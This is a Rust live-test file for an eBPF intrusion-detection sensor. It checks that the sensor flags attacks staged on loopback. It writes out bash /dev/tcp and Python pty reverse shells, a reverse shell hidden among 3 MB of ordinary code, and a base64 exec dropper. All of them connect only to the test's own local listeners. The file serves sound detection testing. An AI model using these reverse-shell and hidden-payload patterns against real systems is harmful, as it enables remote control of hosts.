//! Live tests: the real eBPF sensor (`shrike watch` as root), real attacks on loopback.
//!
//! They need root. CI runs as root, and there (`CI` set) a missing privilege fails the test
//! rather than skipping it; elsewhere a non-root run says it skipped.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::disallowed_methods,
    missing_docs,
    reason = "test code: panicking on a broken fixture is the failure report, and fixtures are ours"
)]

#[path = "support/fleet.rs"]
#[allow(dead_code, reason = "the live test uses the NATS server only")]
mod fleet;
mod support;

use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{mpsc, Mutex};
use std::time::{Duration, Instant};
use support::container::TestContainer;

/// Sensors from parallel tests would see each other's activity: one at a time.
static SERIAL: Mutex<()> = Mutex::new(());

pub fn is_root() -> bool {
    nix_euid() == 0
}

fn nix_euid() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .and_then(|v| v.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap()
}

/// False (after saying so) when the test cannot run here; panics in CI.
pub fn live_allowed(test: &str) -> bool {
    if is_root() {
        return true;
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{test}: live eBPF tests must run as root in CI"
    );
    eprintln!("{test}: skipped: needs root for the eBPF sensor");
    false
}

pub struct Watch {
    child: Child,
    dir: tempfile::TempDir,
    stderr: mpsc::Receiver<String>,
    log: Vec<String>,
}

impl Watch {
    pub fn start(extra: &[&str]) -> Watch {
        let dir = tempfile::tempdir().unwrap();
        let bin = assert_cmd::cargo::cargo_bin("shrike");
        let mut child = Command::new(bin)
            .arg("watch")
            // A test that gives --listen gets the API and /metrics.
            .args((!extra.contains(&"--listen")).then_some("--no-console"))
            .args(["--project", "live", "--host", "live-host", "--sink"])
            .arg(format!(
                "jsonl:{}",
                dir.path().join("findings.jsonl").display()
            ))
            .arg("--record")
            .arg(dir.path().join("events.jsonl"))
            .args(
                (!extra.contains(&"--data-dir"))
                    .then(|| ["--data-dir".as_ref(), dir.path().as_os_str()])
                    .into_iter()
                    .flatten(),
            )
            .args(extra)
            .env("SHRIKE_LOG", "warn")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let (tx, rx) = mpsc::channel();
        let stderr = child.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let mut watch = Watch {
            child,
            dir,
            stderr: rx,
            log: Vec::new(),
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            match watch.stderr.recv_timeout(Duration::from_millis(200)) {
                Ok(line) => {
                    let ready = line.contains("sensor attached");
                    watch.log.push(line);
                    if ready {
                        break;
                    }
                }
                Err(mpsc::RecvTimeoutError::Timeout) => {}
                Err(mpsc::RecvTimeoutError::Disconnected) => {
                    panic!("shrike watch died: {:?}", watch.log)
                }
            }
            assert!(
                Instant::now() < deadline,
                "sensor not attached in 60 s: {:?}",
                watch.log
            );
        }
        // Let the bootstrap of running processes go through before the test acts.
        std::thread::sleep(Duration::from_millis(300));
        watch
    }

    pub fn findings_path(&self) -> PathBuf {
        self.dir.path().join("findings.jsonl")
    }

    /// SIGTERM, wait for the drain, and return (findings, stderr lines, recording path, dir).
    pub fn stop(mut self) -> Stopped {
        // Give the sensor a moment to drain what the test just did.
        std::thread::sleep(Duration::from_millis(500));
        let pid = self.child.id();
        let status = Command::new("kill")
            .args(["-TERM", &pid.to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        let deadline = Instant::now() + Duration::from_secs(30);
        let exit = loop {
            if let Some(s) = self.child.try_wait().unwrap() {
                break s;
            }
            assert!(Instant::now() < deadline, "watch did not stop on SIGTERM");
            std::thread::sleep(Duration::from_millis(50));
        };
        while let Ok(line) = self.stderr.recv_timeout(Duration::from_millis(500)) {
            self.log.push(line);
        }
        assert!(exit.success(), "watch exited with {exit}: {:?}", self.log);
        let text = std::fs::read_to_string(self.findings_path()).unwrap_or_default();
        let findings = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        Stopped {
            findings,
            log: self.log,
            dir: self.dir,
        }
    }
}

impl Watch {
    /// SIGKILL: no drain, no clean stop. Returns what it logged.
    pub fn kill(mut self) -> Vec<String> {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
        while let Ok(line) = self.stderr.recv_timeout(Duration::from_millis(500)) {
            self.log.push(line);
        }
        self.log
    }
}

pub struct Stopped {
    pub findings: Vec<Value>,
    pub log: Vec<String>,
    pub dir: tempfile::TempDir,
}

impl Stopped {
    pub fn of_module<'a>(&'a self, module: &'a str) -> impl Iterator<Item = &'a Value> + 'a {
        self.findings
            .iter()
            .filter(move |f| f["finding"]["moduleName"] == module)
    }

    pub fn for_pid<'a>(&'a self, module: &'a str, pid: u32) -> Option<&'a Value> {
        self.of_module(module)
            .find(|f| f["finding"]["processes"][0]["pid"] == pid)
    }

    pub fn summary_line(&self) -> &str {
        self.log
            .iter()
            .rev()
            .find(|l| l.contains("shrike: stopped:"))
            .map(String::as_str)
            .unwrap_or("")
    }
}

/// A shell whose stdin/stdout/stderr is a TCP connection to a listener in this process; the
/// listener types `commands` and returns (shell's local address, what came back).
fn reverse_shell(listen: &str, connect: &str, commands: &str) -> (SocketAddr, String, u16) {
    let listener = TcpListener::bind(listen).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("bash --norc --noprofile -i >& /dev/tcp/{connect}/{port} 0>&1");
    let mut shell = Command::new("env")
        .args([
            "-i",
            "PATH=/usr/sbin:/usr/bin:/sbin:/bin",
            "HOME=/nonexistent",
            "bash",
            "--norc",
            "--noprofile",
            "-c",
        ])
        .arg(&script)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    listener.set_nonblocking(false).unwrap();
    let (mut conn, peer) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    conn.write_all(commands.as_bytes()).unwrap();
    let mut out = String::new();
    let _ = conn.read_to_string(&mut out);
    shell.wait().unwrap();
    (peer, out, port)
}

fn assert_socket_props(
    f: &Value,
    prefix: &str,
    remote_ip: &str,
    remote_port: u16,
    local: SocketAddr,
) {
    let p = &f["finding"]["sourceProperties"];
    let key = |k: &str| format!("{prefix}{k}");
    assert_eq!(p[key("Dst_Ip")], remote_ip, "{f}");
    assert_eq!(p[key("Dst_Port")], remote_port, "{f}");
    assert_eq!(p[key("Src_Ip")], local.ip().to_string(), "{f}");
    assert_eq!(p[key("Src_Port")], local.port(), "{f}");
}

fn pid_of(f: &Value) -> u64 {
    f["finding"]["processes"][0]["pid"].as_u64().unwrap()
}

#[test]
fn reverse_shells_and_remote_commands_over_ipv4_and_ipv6() {
    if !live_allowed("reverse_shells_and_remote_commands_over_ipv4_and_ipv6") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let watch = Watch::start(&[]);
    let (peer4, out4, port4) =
        reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nwhoami\nuname -a\nexit\n");
    let (peer6, out6, port6) = reverse_shell("[::1]:0", "::1", "id\nexit\n");
    assert!(
        out4.contains("uid=0"),
        "the shell really ran the commands: {out4}"
    );
    assert!(out6.contains("uid=0"), "{out6}");
    let stopped = watch.stop();

    // One Reverse Shell per connection, on the `bash -i` that got the socket, with both ends.
    let shells: Vec<&Value> = stopped
        .of_module("REVERSE_SHELL")
        .filter(|f| {
            let p = &f["finding"]["sourceProperties"];
            p["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port4
                || p["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port6
        })
        .collect();
    assert_eq!(shells.len(), 2, "{:#?}", stopped.findings);
    let v4 = shells
        .iter()
        .find(|f| {
            f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port4
        })
        .unwrap();
    assert_socket_props(
        v4,
        "Reverse_Shell_Stdin_Redirection_",
        "127.0.0.1",
        port4,
        peer4,
    );
    let f = &v4["finding"];
    assert_eq!(f["category"], "Reverse Shell");
    assert_eq!(f["severity"], "CRITICAL");
    assert_eq!(
        f["sourceProperties"]["Reverse_Shell_Redirected_Fd"],
        "stdin"
    );
    assert_eq!(f["processes"][0]["binary"]["path"], "/usr/bin/bash");
    assert_eq!(
        f["processes"][0]["args"],
        serde_json::json!(["bash", "--norc", "--noprofile", "-i"])
    );
    assert_eq!(f["indicator"]["ipAddresses"][0], "127.0.0.1");
    assert!(
        f["processes"][0]["binary"]["sha256"]
            .as_str()
            .unwrap()
            .len()
            == 64
    );
    // Its ancestry: the `bash -c` that made the redirection, then env, then this test.
    assert!(f["processes"].as_array().unwrap().len() >= 3, "{f}");
    assert_eq!(v4["resource"]["type"], "shrike.Host");
    let v6 = shells
        .iter()
        .find(|f| {
            f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port6
        })
        .unwrap();
    assert_socket_props(v6, "Reverse_Shell_Stdin_Redirection_", "::1", port6, peer6);

    // Each command sent down the connection is a Possible Remote Command Execution.
    let rce: Vec<&Value> = stopped
        .of_module("POSSIBLE_REMOTE_COMMAND_EXECUTION_DETECTED")
        .filter(|f| f["finding"]["sourceProperties"]["Socket_Remote_Port"] == port4)
        .collect();
    let mut commands: Vec<&str> = rce
        .iter()
        .map(|f| {
            f["finding"]["sourceProperties"]["Remote_Command"]
                .as_str()
                .unwrap()
        })
        .collect();
    commands.sort_unstable();
    assert_eq!(commands, vec!["id", "uname", "whoami"], "{rce:#?}");
    for f in &rce {
        let p = &f["finding"]["sourceProperties"];
        assert_eq!(p["Socket_Remote_Ip"], "127.0.0.1", "{f}");
        assert_eq!(p["Socket_Local_Ip"], "127.0.0.1", "{f}");
        assert_eq!(p["Socket_Local_Port"], peer4.port(), "{f}");
        assert_eq!(p["Socket_Fd"], "stdin", "{f}");
        assert_eq!(f["finding"]["severity"], "MEDIUM");
        let cmd = f["finding"]["sourceProperties"]["Remote_Command"]
            .as_str()
            .unwrap();
        assert_eq!(
            f["finding"]["processes"][0]["binary"]["path"],
            format!("/usr/bin/{cmd}")
        );
        // The shell that holds the socket is the reported Reverse Shell.
        assert_eq!(
            f["finding"]["processes"][1]["pid"].as_u64(),
            Some(pid_of(v4))
        );
    }
    assert!(
        stopped.summary_line().contains("lost: 0 in the kernel"),
        "{:?}",
        stopped.log
    );
}

#[test]
fn host_compilers_and_benign_pipelines_report_nothing() {
    if !live_allowed("host_compilers_and_benign_pipelines_report_nothing") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("hello.c");
    std::fs::write(&src, "int main(void) { return 0; }\n").unwrap();
    let script = dir.path().join("job.py");
    std::fs::write(
        &script,
        "import json, subprocess\nprint(json.dumps({'ok': subprocess.run(['true']).returncode}))\n",
    )
    .unwrap();
    let watch = Watch::start(&[]);
    let gcc = Command::new("gcc")
        .arg("-o")
        .arg(dir.path().join("hello"))
        .arg(&src)
        .status()
        .unwrap();
    assert!(gcc.success());
    let sh = Command::new("sh")
        .args([
            "-c",
            "ls / | grep -c usr | wc -l; cat /etc/hostname | head -1",
        ])
        .output()
        .unwrap();
    assert!(sh.status.success());
    let py = Command::new("python3").arg(&script).output().unwrap();
    assert!(py.status.success());
    let shebang = dir.path().join("tidy.sh");
    std::fs::write(&shebang, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(
        &shebang,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    assert!(Command::new(&shebang).status().unwrap().success());
    // Through the /bin -> /usr/bin symlink: one file, not a script.
    assert!(Command::new("/bin/true").status().unwrap().success());
    // A script that is a FIFO: the sensor must neither read nor block on it.
    let fifo = dir.path().join("fifo.py");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let reader = Command::new("/usr/bin/python3")
        .arg(&fifo)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    std::fs::write(&fifo, "print('from a fifo')\n").unwrap();
    let out = reader.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "from a fifo");
    let stopped = watch.stop();

    // The recording holds what the sensor captured for interpreters.
    let events = std::fs::read_to_string(stopped.dir.path().join("events.jsonl")).unwrap();
    let execs: Vec<Value> = events
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["kind"] == "exec")
        .collect();
    let py_exec = execs
        .iter()
        .find(|e| e["argv"][1] == script.to_str().unwrap())
        .expect("python exec recorded");
    assert_eq!(py_exec["script"]["path"], script.to_str().unwrap());
    assert!(py_exec["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("json.dumps"));
    let sh_exec = execs
        .iter()
        .find(|e| e["argv"][1] == shebang.to_str().unwrap())
        .expect("script exec recorded");
    assert_eq!(
        sh_exec["script"]["path"],
        shebang.to_str().unwrap(),
        "{sh_exec}"
    );
    assert_eq!(sh_exec["exe"]["path"], "/usr/bin/dash");
    let true_exec = execs
        .iter()
        .find(|e| e["argv"][0] == "/bin/true")
        .expect("true recorded");
    assert!(true_exec.get("script").is_none(), "{true_exec}");
    assert_eq!(true_exec["exe"]["path"], "/usr/bin/true");
    let mine: Vec<&Value> = stopped
        .findings
        .iter()
        .filter(|f| {
            let args = f["finding"]["processes"][0]["args"].to_string();
            args.contains("hello")
                || args.contains("job.py")
                || args.contains("grep")
                || args.contains("hostname")
        })
        .collect();
    assert!(
        mine.is_empty(),
        "benign host activity was reported: {mine:#?}"
    );
    assert_eq!(
        stopped
            .of_module("LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER")
            .count(),
        0
    );
}

#[test]
fn a_process_that_exits_at_once_is_still_hashed_and_matched() {
    if !live_allowed("a_process_that_exits_at_once_is_still_hashed_and_matched") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    // A copy of /bin/true under a new name (so the hash cache has never seen it), listed in a feed.
    let dir = tempfile::tempdir().unwrap();
    let tool = dir.path().join("shrike-quick-exit");
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.extend_from_slice(format!("shrike-test-{}", std::process::id()).as_bytes());
    std::fs::write(&tool, &bytes).unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    use sha2::Digest;
    let sha = hex::encode(sha2::Sha256::digest(&bytes));
    let feed = dir.path().join("feed.txt");
    std::fs::write(&feed, format!("{sha};Test.QuickExit\n")).unwrap();
    let watch = Watch::start(&["--intel", feed.to_str().unwrap()]);
    let started = Instant::now();
    let status = Command::new(&tool).status().unwrap();
    assert!(status.success());
    let ran_for = started.elapsed();
    let stopped = watch.stop();
    let f = stopped
        .of_module("BUILT_IN_MALICIOUS_BINARY_EXECUTED")
        .find(|f| f["finding"]["processes"][0]["binary"]["path"] == tool.to_str().unwrap())
        .unwrap_or_else(|| {
            panic!(
                "no finding for {} (ran {ran_for:?}): {:#?} {:?}",
                tool.display(),
                stopped.findings,
                stopped.log
            )
        });
    let f = &f["finding"];
    assert_eq!(f["sourceProperties"]["Binary_Sha256"], sha.as_str());
    assert_eq!(f["sourceProperties"]["Binary_Layer"], "host");
    assert_eq!(f["sourceProperties"]["Intel_Comment"], "Test.QuickExit");
    assert_eq!(
        f["externalUri"],
        format!("https://www.virustotal.com/gui/file/{sha}")
    );
}

#[test]
fn replaying_the_recording_gives_the_live_findings() {
    if !live_allowed("replaying_the_recording_gives_the_live_findings") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let watch = Watch::start(&[]);
    let (_, out, _) = reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nexit\n");
    assert!(out.contains("uid="));
    let stopped = watch.stop();
    assert!(stopped.of_module("REVERSE_SHELL").count() >= 1);
    let recording = stopped.dir.path().join("events.jsonl");
    let replay = assert_cmd::Command::cargo_bin("shrike")
        .unwrap()
        .args(["replay", "--project", "live", "--host", "live-host"])
        .arg(&recording)
        .output()
        .unwrap();
    assert!(
        replay.status.success(),
        "{}",
        String::from_utf8_lossy(&replay.stderr)
    );
    let without_create_time = |mut v: Value| {
        v["finding"].as_object_mut().unwrap().remove("createTime");
        v
    };
    let live: Vec<Value> = stopped
        .findings
        .iter()
        .cloned()
        .map(without_create_time)
        .collect();
    let replayed: Vec<Value> = String::from_utf8(replay.stdout)
        .unwrap()
        .lines()
        .map(|l| without_create_time(serde_json::from_str(l).unwrap()))
        .collect();
    assert_eq!(live, replayed);
}

#[test]
fn watch_refuses_clearly_without_root() {
    // Runs everywhere: as root it drops privileges for the child through `setpriv`.
    let bin = assert_cmd::cargo::cargo_bin("shrike");
    // The checkout may sit where uid 65534 cannot reach: run a world-executable copy.
    let dir = tempfile::tempdir().unwrap();
    let mode = |m| std::os::unix::fs::PermissionsExt::from_mode(m);
    std::fs::set_permissions(dir.path(), mode(0o755)).unwrap();
    let copy = dir.path().join("shrike");
    std::fs::copy(&bin, &copy).unwrap();
    std::fs::set_permissions(&copy, mode(0o755)).unwrap();
    let mut cmd = if is_root() {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(&copy);
        c
    } else {
        Command::new(&copy)
    };
    let out = cmd
        .args(["watch", "--no-console", "--sink", "jsonl:/dev/null"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("needs root"), "{stderr}");
}

/// A file on the host root, which is the lower ("image") layer of the test containers.
struct ImageFile(PathBuf);

impl ImageFile {
    fn create(dir: &Path, name: &str, bytes: &[u8]) -> ImageFile {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        ImageFile(path)
    }
}

/// Bytes of a working executable (/bin/true) made unique with a marker, and their SHA-256.
/// About `pad` bytes of ordinary request handlers, then `sys.exit(0)` and a reverse shell (never
/// reached), then about `after` bytes of handlers more. Python reads the whole file before it
/// runs any of it.
fn padded_reverse_shell(pad: usize, after: usize) -> Vec<u8> {
    const HANDLER: &str = r#"
def handler_NUM(request, retries=3):
    """The JSON body of request NUM, retried on bad input."""
    for attempt in range(retries):
        try:
            return json.loads(request.body or "{}")
        except ValueError as exc:
            logging.warning("bad body %s on attempt %d: %s", request.path, attempt, exc)
    return {}
"#;
    const SHELL: &str = r#"
sys.exit(0)
import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
"#;
    let mut text = String::from("import json\nimport logging\nimport sys\n");
    let mut i = 0;
    while text.len() < pad {
        text.push_str(&HANDLER.replace("NUM", &i.to_string()));
        i += 1;
    }
    text.push_str(SHELL);
    let shell_end = text.len();
    while text.len() < shell_end + after {
        text.push_str(&HANDLER.replace("NUM", &i.to_string()));
        i += 1;
    }
    text.into_bytes()
}

fn tool_bytes(marker: &str) -> (Vec<u8>, String) {
    use sha2::Digest;
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.extend_from_slice(marker.as_bytes());
    let sha = hex::encode(sha2::Sha256::digest(&bytes));
    (bytes, sha)
}

fn in_container<'a>(stopped: &'a Stopped, module: &'a str, c: &'a TestContainer) -> Vec<&'a Value> {
    stopped
        .of_module(module)
        .filter(|f| {
            f["resource"]["name"]
                .as_str()
                .is_some_and(|n| n.ends_with(c.id()))
        })
        .collect()
}

/// Every finding about container `c`.
fn all_in_container<'a>(stopped: &'a Stopped, c: &TestContainer) -> Vec<&'a Value> {
    stopped
        .findings
        .iter()
        .filter(|f| {
            f["resource"]["name"]
                .as_str()
                .is_some_and(|n| n.ends_with(c.id()))
        })
        .collect()
}

/// A directory on the host root, which is the test containers' lower ("image") layer.
fn image_dir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("shrike-live-image-")
        .tempdir_in("/opt")
        .unwrap()
}

/// A copy of /bin/true named `name` in `dir`, made unique to this run; its path.
fn image_tool(dir: &tempfile::TempDir, name: &str) -> String {
    let marker = format!("{name}-{}-{:?}", std::process::id(), Instant::now());
    let (bytes, _) = tool_bytes(&marker);
    let f = ImageFile::create(dir.path(), name, &bytes);
    f.0.to_str().unwrap().to_owned()
}

fn assert_container_fields(f: &Value, c: &TestContainer) {
    let finding = &f["finding"];
    assert_eq!(finding["containers"][0]["name"], c.name(), "{f}");
    assert_eq!(finding["containers"][0]["uri"], c.image(), "{f}");
    assert_eq!(finding["containers"][0]["imageId"], c.image_id(), "{f}");
    assert_eq!(
        finding["sourceProperties"]["Container_Image_Uri"],
        c.image(),
        "{f}"
    );
    assert_eq!(f["resource"]["type"], "shrike.Container");
    assert_eq!(f["resource"]["displayName"], c.name());
    assert_eq!(
        f["resource"]["name"],
        format!(
            "//shrike/projects/live/hosts/live-host/containers/{}",
            c.id()
        )
    );
}

#[test]
fn attacks_inside_a_real_container() {
    if !live_allowed("attacks_inside_a_real_container") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    // Files in the "image": the host root is the containers' lower layer.
    let image_dir = image_dir();
    let marker = format!("{}-{:?}", std::process::id(), Instant::now());
    let (builtin_bytes, builtin_sha) = tool_bytes(&format!("builtin-{marker}"));
    let (modified_bytes, modified_sha) = tool_bytes(&format!("modified-{marker}"));
    let (victim_bytes, _) = tool_bytes(&format!("victim-{marker}"));
    let builtin = ImageFile::create(image_dir.path(), "builtin-tool", &builtin_bytes);
    let _payload = ImageFile::create(image_dir.path(), "payload", &modified_bytes);
    let victim = ImageFile::create(image_dir.path(), "victim-tool", &victim_bytes);
    let feed = image_dir.path().join("feed.txt");
    std::fs::write(
        &feed,
        format!("# test feed\n{builtin_sha};Test.Builtin\n{modified_sha};Test.Modified\n"),
    )
    .unwrap();

    let watch = Watch::start(&["--intel", feed.to_str().unwrap()]);
    let c = TestContainer::start("shop-web", "registry.example.com/shop/web:2.4.1");
    let dir = image_dir.path().to_str().unwrap();

    // Built in: the image's own binary. Added: the same bytes copied into the container.
    // Modified: an image binary overwritten at run time (copied up).
    let builtin_path = builtin.0.to_str().unwrap();
    assert!(c.exec(&[builtin_path]).status.success());
    assert!(c
        .exec(&[
            "sh",
            "-c",
            &format!("cp {builtin_path} /tmp/added-tool && /tmp/added-tool")
        ])
        .status
        .success());
    let victim_path = victim.0.to_str().unwrap();
    assert!(c
        .exec(&[
            "sh",
            "-c",
            &format!("cat {dir}/payload > {victim_path} && {victim_path}")
        ])
        .status
        .success());

    // A compiler pipeline: one finding for gcc, none for cc1/as/collect2/ld. The container's
    // /tmp shows the host's, so the paths are unique to this run.
    let cc_src = format!("/tmp/shrike-live-{}.c", std::process::id());
    let cc_out = format!("/tmp/shrike-live-{}", std::process::id());
    assert!(c
        .exec(&[
            "sh",
            "-c",
            &format!("echo 'int main(void){{return 0;}}' > {cc_src}")
        ])
        .status
        .success());
    let gcc = c.exec(&["gcc", "-o", &cc_out, &cc_src]);
    assert!(
        gcc.status.success(),
        "{}",
        String::from_utf8_lossy(&gcc.stderr)
    );

    // Benign work: package-manager-style copies, pipelines, a Python script.
    assert!(c.exec(&["sh", "-c", "mkdir -p /tmp/pkg && cp -a /usr/share/doc/bash /tmp/pkg/ && tar -cf /tmp/pkg.tar -C /tmp pkg"]).status.success());
    assert!(c
        .exec(&["sh", "-c", "ls /usr/bin | grep -c sh | wc -l"])
        .status
        .success());
    assert!(c.exec(&["sh", "-c", "echo 'import json; print(json.dumps({\"ok\": 1}))' > /tmp/job.py && /usr/bin/python3 /tmp/job.py"]).status.success());

    // A reverse shell from inside the container to a listener on loopback.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut shell = c.spawn(&[
        "bash",
        "-c",
        &format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
    ]);
    let (mut conn, peer) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    conn.write_all(b"id\nwhoami\nuname -a\nexit\n").unwrap();
    let mut out = String::new();
    let _ = conn.read_to_string(&mut out);
    assert!(out.contains("uid=0"), "{out}");
    shell.wait().unwrap();

    // A Python reverse shell (the classic pty one-liner) to another loopback listener, and a
    // dropped script that decodes and runs a payload: the malicious-Python model scores both.
    let py_listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let py_port = py_listener.local_addr().unwrap().port();
    let py_code = format!(
        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{py_port}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
    );
    let mut py_shell = c.spawn(&["/usr/bin/python3", "-c", &py_code]);
    let (mut py_conn, _) = py_listener.accept().unwrap();
    py_conn
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    // A shell builtin only, so that no command execution adds findings of its own.
    py_conn.write_all(b"echo shrike-$((6*7))\nexit\n").unwrap();
    let mut py_out = String::new();
    let _ = py_conn.read_to_string(&mut py_out);
    assert!(py_out.contains("shrike-42"), "{py_out}");
    py_shell.wait().unwrap();
    let dropped = "import base64\nexec(base64.b64decode('cHJpbnQoJ3B3bmVkJyk='))\n";
    let drop_run = c.exec(&[
        "sh",
        "-c",
        &format!("printf '%s' \"{dropped}\" > /tmp/drop.py && /usr/bin/python3 /tmp/drop.py"),
    ]);
    assert!(
        String::from_utf8_lossy(&drop_run.stdout).contains("pwned"),
        "{}",
        String::from_utf8_lossy(&drop_run.stderr)
    );
    // A reverse shell after 100 KB of ordinary code: the event's 64 KiB capture holds only the
    // ordinary code, and the sensor scores the script further. It exits before the shell, so
    // nothing connects.
    let padded = padded_reverse_shell(100_000, 0);
    let padded_path = format!("/tmp/shrike-live-padded-{}.py", std::process::id());
    // And in the middle of 3 MB, with 1.5 MB of ordinary code on each side: the sensor scores
    // the script in windows of 1 MiB, each on its own.
    let far = padded_reverse_shell(1_500_000, 1_500_000);
    let far_path = format!("/tmp/shrike-live-far-{}.py", std::process::id());
    for (path, text) in [(&padded_path, &padded), (&far_path, &far)] {
        std::fs::write(path, text).unwrap();
        let run = c.exec(&["/usr/bin/python3", path]);
        let _ = std::fs::remove_file(path);
        assert!(
            run.status.success(),
            "{}",
            String::from_utf8_lossy(&run.stderr)
        );
    }
    let stopped = watch.stop();

    let python = in_container(&stopped, "MALICIOUS_PYTHON_EXECUTED", &c);
    let by_how = |how: &str| {
        python
            .iter()
            .find(|f| f["finding"]["sourceProperties"]["Python_Invocation"] == how)
            .copied()
            .unwrap_or_else(|| panic!("no Malicious Python ({how}): {:#?}", stopped.findings))
    };
    let inline = by_how("-c");
    let props = &inline["finding"]["sourceProperties"];
    assert!(props["Python_Score"].as_f64().unwrap() >= props["Python_Threshold"].as_f64().unwrap());
    assert!(
        props["Python_Reasons"].as_str().unwrap().contains("dup2"),
        "{props}"
    );
    assert_eq!(
        inline["finding"]["processes"][0]["script"]["contents"],
        py_code.as_str()
    );
    assert_container_fields(inline, &c);
    let by_path = |path: &str| {
        python
            .iter()
            .find(|f| f["finding"]["processes"][0]["script"]["path"] == path)
            .copied()
            .unwrap_or_else(|| panic!("no Malicious Python for {path}: {:#?}", stopped.findings))
    };
    let long = by_path(&padded_path);
    let props = &long["finding"]["sourceProperties"];
    assert_eq!(props["Python_Invocation"], "script");
    assert!(
        props["Python_Reasons"].as_str().unwrap().contains("dup2"),
        "{props}"
    );
    assert!(props.get("Python_Scored_Part").is_none(), "{props}");
    let long_script = &long["finding"]["processes"][0]["script"];
    assert_eq!(long_script["size"], padded.len());
    assert_eq!(long_script["contents"].as_str().unwrap().len(), 64 * 1024);
    let far_finding = by_path(&far_path);
    let props = &far_finding["finding"]["sourceProperties"];
    assert!(
        props["Python_Reasons"].as_str().unwrap().contains("dup2"),
        "{props}"
    );
    assert_eq!(
        props["Python_Scored_Part"],
        format!(
            "all {} bytes, in {} windows scored each on its own",
            far.len(),
            shrike_core::event::python_windows(
                std::str::from_utf8(&far).unwrap(),
                shrike_pyml::lexer::resume_points
            )
            .len()
        )
    );
    let script = by_how("script");
    assert_eq!(
        script["finding"]["processes"][0]["script"]["path"],
        "/tmp/drop.py"
    );
    assert_eq!(
        script["finding"]["processes"][0]["script"]["contents"],
        dropped
    );
    use sha2::Digest as _;
    assert_eq!(
        script["finding"]["processes"][0]["script"]["sha256"],
        hex::encode(sha2::Sha256::digest(dropped.as_bytes()))
    );
    assert_eq!(python.len(), 4, "only the four attacks: {python:#?}");

    let check_binary = |module: &str, path: &str, sha: &str, layer: &str, comment: &str| {
        let hits = in_container(&stopped, module, &c);
        let f = hits
            .iter()
            .find(|f| f["finding"]["processes"][0]["binary"]["path"] == path)
            .unwrap_or_else(|| panic!("no {module} for {path}: {:#?}", stopped.findings));
        let p = &f["finding"]["sourceProperties"];
        assert_eq!(p["Binary_Sha256"], sha);
        assert_eq!(p["Binary_Layer"], layer);
        assert_eq!(p["Intel_Comment"], comment);
        assert_eq!(f["finding"]["processes"][0]["binary"]["sha256"], sha);
        assert_eq!(
            f["finding"]["externalUri"],
            format!("https://www.virustotal.com/gui/file/{sha}")
        );
